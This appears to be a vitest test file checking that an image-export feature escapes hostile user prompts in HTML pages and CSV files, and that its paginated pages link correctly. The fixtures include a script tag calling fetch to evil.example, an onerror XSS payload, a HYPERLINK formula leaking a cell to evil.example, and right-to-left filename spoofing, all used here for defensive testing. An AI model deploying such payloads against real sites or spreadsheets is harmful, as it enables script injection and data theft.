/** The pages and tables people look at. */
import { describe, expect, it } from "vitest";
import { requested, seedImages, workExports } from "./testing/exporter.ts";
import { pathOf, useScene } from "./testing/scene.ts";

const scene = useScene();

describe("what a person wrote", () => {
  const hostile = [
    `</script><script>fetch("http://evil.example")</script>`,
    `"><img src=x onerror=alert(1)>`,
    `=HYPERLINK("http://evil.example?"&A1,"click")`,
    `\u202egnp.exe \u2066 right to left \u0627\u0644\u0639\u0631\u0628\u064a\u0629`,
    `${"\u{1F98A}".repeat(500)}`,
    `x${"long ".repeat(400)}`,
    "a\u0000b\u0007c",
  ];

  it("is text in the pages, never markup, and never a formula in a table", async () => {
    for (const prompt of hostile) {
      await seedImages(scene.product, scene.id, { generations: 1, bytesEach: 10, prompt });
    }
    const archive = await scene.exported();
    const page = archive.text("index.html");
    expect(page).not.toMatch(/<script|onerror=alert\(1\)>|<img src=x/);
    expect(page).toContain("&lt;/script&gt;");
    expect(page).not.toContain("\u0000");
    expect(page.match(/<meta http-equiv="Content-Security-Policy"/g)).toHaveLength(1);
    expect(archive.text("generations.csv")).toContain(`"'=HYPERLINK(""http`);
    const prompts = archive.lines("generations.jsonl").map(({ prompt }) => prompt);
    expect(prompts.sort()).toEqual([...hostile].sort());
  });
});

it("many images are shown in pages that lead to one another and to every file", async () => {
  const made = await seedImages(scene.product, scene.id, { generations: 5, bytesEach: 10 });
  const { id: exportId } = await requested(scene.mia);
  await workExports(scene.product, { pageImages: 2 });
  const archive = await scene.downloaded(exportId);
  const pages = ["index.html", "index-2.html", "index-3.html"];
  expect(archive.paths.filter((path) => path.endsWith(".html")).sort()).toEqual([...pages].sort());
  const shown = pages.flatMap((page) => {
    const links = [...archive.text(page).matchAll(/href="([^"#]+)/g)].map(([, to]) => to ?? "");
    for (const link of links) expect(archive.paths).toContain(link);
    for (const other of pages) expect(links).toContain(other);
    return links.filter((link) => link.startsWith("images/"));
  });
  expect(shown).toEqual(made.map((of) => pathOf(of)));
});
